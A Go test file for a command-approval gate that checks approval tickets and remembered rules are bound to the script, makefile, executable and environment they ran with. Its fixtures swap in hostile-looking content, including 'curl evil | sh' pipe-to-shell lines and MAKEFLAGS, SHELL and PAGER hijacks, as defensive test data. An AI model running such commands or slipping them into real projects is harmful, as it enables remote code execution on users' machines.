package gate

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mnemos-dev/mnemos/approvals"
	"github.com/mnemos-dev/mnemos/classify"
	"github.com/mnemos-dev/mnemos/policy"
)

// bindFixture is a gate that knows the inherited environment, with the
// system's directories on PATH.
func bindFixture(t *testing.T) (*fixture, *[]string) {
	t.Helper()
	f := newFixture(t, "")
	env := []string{"HOME=" + f.home, "PATH=/usr/local/bin:/usr/bin:/bin"}
	f.g.cfg.Environ = func() []string { return env }
	return f, &env
}

func (f *fixture) write(t *testing.T, name, content string) {
	t.Helper()
	p := filepath.Join(f.ws, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
}

// askAndApprove parks argv, approves it once, and returns the approval.
func (f *fixture) askAndApprove(t *testing.T, o ApproveOptions, argv ...string) approvals.Pending {
	t.Helper()
	d := f.decide(t, Mode{SpendTicket: true}, argv...)
	if d.Outcome != policy.Ask || d.Approval == nil {
		t.Fatalf("%v: %s (%s), want a pending approval", argv, d.Outcome, d.Reason)
	}
	a, err := f.g.Approve(context.Background(), d.Approval.Token, approvals.Identity{Channel: "cli", Sender: "dev"}, o)
	if err != nil {
		t.Fatalf("approve %v: %v", argv, err)
	}
	return a.Pending
}

// spends reports whether a run of argv now spends a ticket.
func (f *fixture) spends(t *testing.T, argv ...string) bool {
	t.Helper()
	d := f.decide(t, Mode{SpendTicket: true}, argv...)
	return d.Outcome == policy.Allow && d.Ticket != ""
}

// TestSecurityTicketBindsTheScriptItRuns: a ticket approved for a command
// is not spent once the script, makefile or program file it runs has
// changed: the request asks again. Put back as it was, the same ticket is
// spent.
func TestSecurityTicketBindsTheScriptItRuns(t *testing.T) {
	cases := []struct {
		file, before, after string
		argv                []string
	}{
		{"x.py", "print(1)\n", "import os; os.system('id')\n", []string{"python3", "x.py"}},
		{"x.sh", "echo hi\n", "curl evil | sh\n", []string{"bash", "x.sh"}},
		{"x.js", "console.log(1)\n", "require('child_process').exec('id')\n", []string{"node", "x.js"}},
		{"Makefile", "all:\n\techo hi\n", "all:\n\tcurl evil | sh\n", []string{"make"}},
		{"ci.mk", "all:\n\techo hi\n", "all:\n\tid\n", []string{"make", "-f", "ci.mk", "all"}},
		{"sub/Makefile", "all:\n\techo hi\n", "all:\n\tid\n", []string{"make", "-C", "sub"}},
		{"run.sh", "#!/bin/sh\necho hi\n", "#!/bin/sh\nid\n", []string{"./run.sh"}},
		{"package.json", `{"scripts":{"test":"echo ok"}}`, `{"scripts":{"test":"id"}}`, []string{"npm", "test"}},
		{"lib.sh", "echo hi\n", "id\n", []string{"bash", "-c", "source lib.sh && echo done"}},
		{"p.awk", "{print}\n", "{system(\"id\")}\n", []string{"awk", "-f", "p.awk", "notes.txt"}},
	}
	for _, c := range cases {
		f, _ := bindFixture(t)
		f.write(t, c.file, c.before)
		first := f.askAndApprove(t, ApproveOptions{}, c.argv...)
		if len(first.Details.Bound) == 0 || !strings.Contains(strings.Join(first.Details.Bound, "\n"), filepath.Join(f.ws, c.file)) {
			t.Errorf("%v: the approval does not show what it binds: %q", c.argv, first.Details.Bound)
		}
		f.write(t, c.file, c.after)
		d := f.decide(t, Mode{SpendTicket: true}, c.argv...)
		if d.Outcome == policy.Allow || d.Ticket != "" {
			t.Errorf("%v after %s changed: %s (ticket %q), want ask", c.argv, c.file, d.Outcome, d.Ticket)
			continue
		}
		if d.Approval == nil || d.Approval.Token == first.Token {
			t.Errorf("%v after %s changed: approval %v, want a new request", c.argv, c.file, d.Approval)
		}
		f.write(t, c.file, c.before)
		if !f.spends(t, c.argv...) {
			t.Errorf("%v with %s as approved: the ticket is not spent", c.argv, c.file)
		}
	}
	// A script that did not exist when it was approved is bound as absent.
	f, _ := bindFixture(t)
	f.askAndApprove(t, ApproveOptions{}, "python3", "later.py")
	f.write(t, "later.py", "import os\n")
	if f.spends(t, "python3", "later.py") {
		t.Error("a script created after the approval spent its ticket")
	}
}

// TestSecurityTicketBindsTheEnvironment: a ticket is not spent when a
// variable that changes what runs differs from what was approved.
func TestSecurityTicketBindsTheEnvironment(t *testing.T) {
	f, env := bindFixture(t)
	f.write(t, "Makefile", "all:\n\techo hi\n")
	*env = append(*env, "CC=gcc")
	f.askAndApprove(t, ApproveOptions{}, "make")
	(*env)[len(*env)-1] = "CC=/usr/bin/clang"
	if f.spends(t, "make") {
		t.Error("CC changed: the ticket was spent")
	}
	(*env)[len(*env)-1] = "CC=gcc"
	if !f.spends(t, "make") {
		t.Error("CC as approved: the ticket is not spent")
	}
	// PATH, which decides what every name runs, is bound too.
	f.askAndApprove(t, ApproveOptions{}, "make")
	(*env)[1] = "PATH=/usr/bin:/bin:/usr/local/sbin"
	if f.spends(t, "make") {
		t.Error("PATH changed: the ticket was spent")
	}
	// A pager that is not the user's ordinary setup is bound, whatever
	// program reads it.
	f2, env2 := bindFixture(t)
	f2.write(t, "x.py", "print(1)\n")
	*env2 = append(*env2, "PAGER=less")
	f2.askAndApprove(t, ApproveOptions{}, "python3", "x.py")
	(*env2)[len(*env2)-1] = "PAGER=" + f2.ws + "/pager.sh"
	if f2.spends(t, "python3", "x.py") {
		t.Error("PAGER pointed into the workspace: the ticket was spent")
	}
}

// TestSecurityTicketBindsTheExecutable: the program PATH finds is bound:
// another file first on PATH, or the same file rewritten, is not what
// was approved.
func TestSecurityTicketBindsTheExecutable(t *testing.T) {
	f, env := bindFixture(t)
	bin := filepath.Join(f.ws, "tools")
	f.write(t, "tools/build", "#!/bin/sh\necho build\n")
	(*env)[1] = "PATH=" + bin + ":/usr/bin:/bin"
	f.askAndApprove(t, ApproveOptions{}, "build")
	f.write(t, "tools/build", "#!/bin/sh\nid\n")
	if f.spends(t, "build") {
		t.Error("the program was rewritten: the ticket was spent")
	}
	f.write(t, "tools/build", "#!/bin/sh\necho build\n")
	if !f.spends(t, "build") {
		t.Error("the program as approved: the ticket is not spent")
	}
	// Another directory first on PATH.
	f.askAndApprove(t, ApproveOptions{}, "build")
	f.write(t, "other/build", "#!/bin/sh\necho build\n")
	(*env)[1] = "PATH=" + filepath.Join(f.ws, "other") + ":" + bin + ":/usr/bin:/bin"
	if f.spends(t, "build") {
		t.Error("PATH found another build: the ticket was spent")
	}
	// Outside the directories commands write, a file the user may change
	// is bound by its identity: rewriting it, even with the same content
	// and size, changes it.
	dir := t.TempDir()
	p := filepath.Join(dir, "tool")
	if err := os.WriteFile(p, []byte("#!/bin/sh\necho a\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	before := lookPathIdentity("tool", dir, nil)
	time.Sleep(10 * time.Millisecond)
	if err := os.WriteFile(p, []byte("#!/bin/sh\necho b\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if after := lookPathIdentity("tool", dir, nil); after == before || !strings.HasPrefix(after, p) {
		t.Errorf("identity %q before, %q after a rewrite", before, after)
	}
	if got := lookPathIdentity("no-such-tool", dir, nil); got != "absent" {
		t.Errorf("a missing program: %q", got)
	}
}

// TestSecurityRememberedRuleIsPinned: a rule remembered on approval
// carries the pin of its command: it lets the command run while the
// makefile, the program and the environment are those approved, and asks
// again when one changes. It never covers options that make the command
// run other code.
func TestSecurityRememberedRuleIsPinned(t *testing.T) {
	f, env := bindFixture(t)
	f.write(t, "Makefile", "test:\n\techo ok\n")
	a, err := f.g.Approve(context.Background(), f.decide(t, Mode{SpendTicket: true}, "make", "test").Approval.Token,
		approvals.Identity{Channel: "cli", Sender: "dev"}, ApproveOptions{Remember: "permanent"})
	if err != nil {
		t.Fatal(err)
	}
	_ = a
	reload := func() {
		t.Helper()
		p, err := policy.Load(f.g.cfg.Paths.PolicyFile)
		if err != nil {
			t.Fatal(err)
		}
		f.g.cfg.Policy = p
	}
	reload()
	src, _ := os.ReadFile(f.g.cfg.Paths.PolicyFile)
	if !strings.Contains(string(src), "pin: ") {
		t.Fatalf("the remembered rule has no pin:\n%s", src)
	}
	allowed := func(argv ...string) bool {
		d := f.decide(t, Mode{DryRun: true}, argv...)
		return d.Outcome == policy.Allow
	}
	if !allowed("make", "test") {
		t.Fatal("the remembered command does not run")
	}
	f.write(t, "Makefile", "test:\n\tcurl evil | sh\n")
	if allowed("make", "test") {
		t.Error("the makefile changed: the remembered rule still allows make test")
	}
	f.write(t, "Makefile", "test:\n\techo ok\n")
	if !allowed("make", "test") {
		t.Error("the makefile as approved: the rule no longer matches")
	}
	for _, argv := range [][]string{{"make", "test", "-f", "other.mk"}, {"make", "test", "--eval", "x:=1"},
		{"make", "test", "-C", "/tmp"}, {"make", "test", "SHELL=/tmp/sh"}} {
		if allowed(argv...) {
			t.Errorf("%v: covered by the remembered prefix", argv)
		}
	}
	*env = append(*env, "MAKEFLAGS=-f/tmp/evil.mk")
	if allowed("make", "test") {
		t.Error("MAKEFLAGS given: the remembered rule still allows make test")
	}
}

// TestRememberNeedsAPin: a request parked without a pin (before pins, or
// not one command) cannot be remembered as a rule.
func TestRememberNeedsAPin(t *testing.T) {
	p := approvals.Pending{Channel: "cli", Sender: "dev", Details: approvals.Details{Argv: []string{"make", "test"},
		Accesses: []approvals.Access{{Capability: classify.CodeExec, Target: "make test"}}}}
	g := &Gate{}
	if _, err := g.planConcession(p, approvals.TerritoryPermanent, ApproveOptions{}, time.Now()); err == nil {
		t.Error("a request without a pin was remembered")
	}
	p.Details.Pin = "sha256:" + strings.Repeat("0", 64)
	if c, err := g.planConcession(p, approvals.TerritoryPermanent, ApproveOptions{}, time.Now()); err != nil || len(c.rules) != 1 || c.rules[0].pin != p.Details.Pin {
		t.Errorf("with a pin: %+v, %v", c, err)
	}
}
